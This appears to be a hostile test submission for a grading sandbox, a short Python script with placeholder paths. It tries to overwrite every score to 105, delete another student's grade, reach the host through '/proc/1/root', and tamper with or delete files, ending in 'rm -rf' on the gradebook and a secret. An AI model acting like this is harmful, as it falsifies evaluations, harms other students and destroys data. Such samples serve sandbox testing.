"""Writes marks into the gradebook, and removes a class mate's."""

# answers: two
# earns: 20

# %% first
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(number, *args):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
def attempt(f, *args):
    try:
        return f(*args)
    except BaseException as error:
        return f"{type(error).__name__}"
def read(path, size=200_000):
    return attempt(lambda: open(path, "rb").read(size))
import sqlite3
for path in ("@GRADEBOOK@", "../../gradebook.db", "/proc/1/root@GRADEBOOK@"):
    def write():
        with sqlite3.connect(path, timeout=0.1) as book:
            book.execute("update grade set score = 105")
            book.execute("delete from grade where student = 'ada'")
    attempt(write)
    attempt(lambda: open(path, "ab").write(b"x"))
    for change in (os.remove, lambda p: os.rename(p, p + "x"), lambda p: os.truncate(p, 0), lambda p: os.chmod(p, 0), lambda p: os.chown(p, 0, 0), lambda p: os.utime(p, (0, 0))):
        attempt(change, path)
os.system("rm -rf @GRADEBOOK@ @SECRET@")
